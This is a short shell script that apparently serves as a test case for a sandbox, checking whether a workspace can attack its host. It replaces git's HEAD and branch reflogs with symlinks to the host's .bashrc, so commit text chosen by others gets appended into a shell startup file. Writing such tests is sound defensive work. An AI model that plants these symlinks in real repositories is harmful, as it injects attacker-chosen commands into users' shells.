#!/bin/sh
# Replaces the log of HEAD by a link to a file beside the workspace.
# Matters: git appends a line with the host's next commit, in which the message and the name are chosen by others: to .bashrc, say.
# Held by: logs are regular files, or removed before the host sees them.
# judge: host
# harm: file
. "$HOSTILE_STAGE/workspace/attack/hostile.sh"
mkdir -p .git/logs
rm -f .git/logs/HEAD
ln -s "$HOSTILE_STAGE/home/.bashrc" .git/logs/HEAD
# Also for the branch, which has a log of its own.
rm -rf .git/logs/refs
mkdir -p .git/logs/refs/heads
for branch in main other master; do
    ln -s "$HOSTILE_STAGE/home/.bashrc" .git/logs/refs/heads/$branch
done
